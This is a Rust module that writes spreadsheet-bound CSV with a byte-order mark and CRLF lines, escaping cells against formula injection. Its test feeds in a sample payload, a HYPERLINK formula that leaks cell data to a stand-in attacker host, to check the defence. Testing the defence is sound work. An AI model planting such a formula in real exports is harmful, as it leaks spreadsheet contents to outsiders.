//! CSV meant for people, opened in a spreadsheet (a findings list, the audit log): UTF-8 with
//! a byte-order mark and CRLF lines, so Excel in Japan opens it as is, and every cell
//! neutralised against formula injection the way OWASP recommends — a cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a spreadsheet shows
//! it as text instead of running it (`=HYPERLINK(…)` in a finding's value would otherwise be
//! a live link that leaks the sheet).
//!
//! Roster exports are *not* written this way: they are data for machines and must round-trip
//! byte for byte (ONEROSTER.md §1); see `crate::export`.

/// The byte-order mark a sheet starts with.
pub const BOM: &str = "\u{feff}";

/// A CSV document for people, built in memory (findings are bounded). A long sheet (the audit
/// log) is streamed instead: [`BOM`], then [`line`] per row, the header first.
#[derive(Debug, Clone)]
pub struct Sheet {
    out: String,
}

impl Sheet {
    /// A sheet with its header row.
    pub fn new(header: &[&str]) -> Sheet {
        let mut sheet = Sheet {
            out: String::from(BOM),
        };
        sheet.row(header.iter().copied());
        sheet
    }

    /// Appends one row.
    pub fn row<'a>(&mut self, cells: impl IntoIterator<Item = &'a str>) {
        self.out.push_str(&line(cells));
    }

    pub fn finish(self) -> String {
        self.out
    }
}

/// One row: its cells neutralised and quoted as needed, ending in CRLF.
pub fn line<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let mut out = String::new();
    for (i, c) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&cell(c));
    }
    out.push_str("\r\n");
    out
}

/// One cell: neutralised if a spreadsheet would read it as a formula, quoted if it needs it.
pub fn cell(value: &str) -> String {
    let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let text = if risky {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    if risky || text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_plain_values_stay() {
        assert_eq!(
            cell(r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#),
            r#""'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")""#
        );
        assert_eq!(cell("@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
        assert_eq!(cell("+81 3"), "\"'+81 3\"");
        assert_eq!(cell("-1"), "\"'-1\"");
        assert_eq!(cell("\tx"), "\"'\tx\"");
        assert_eq!(cell("\rx"), "\"'\rx\"");
        assert_eq!(cell("山田 太郎"), "山田 太郎");
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell(""), "");
    }

    #[test]
    fn a_sheet_has_a_bom_and_crlf_lines() {
        let mut s = Sheet::new(&["a", "b"]);
        s.row(["1", "=2"]);
        assert_eq!(s.finish(), "\u{feff}a,b\r\n1,\"'=2\"\r\n");
    }
}
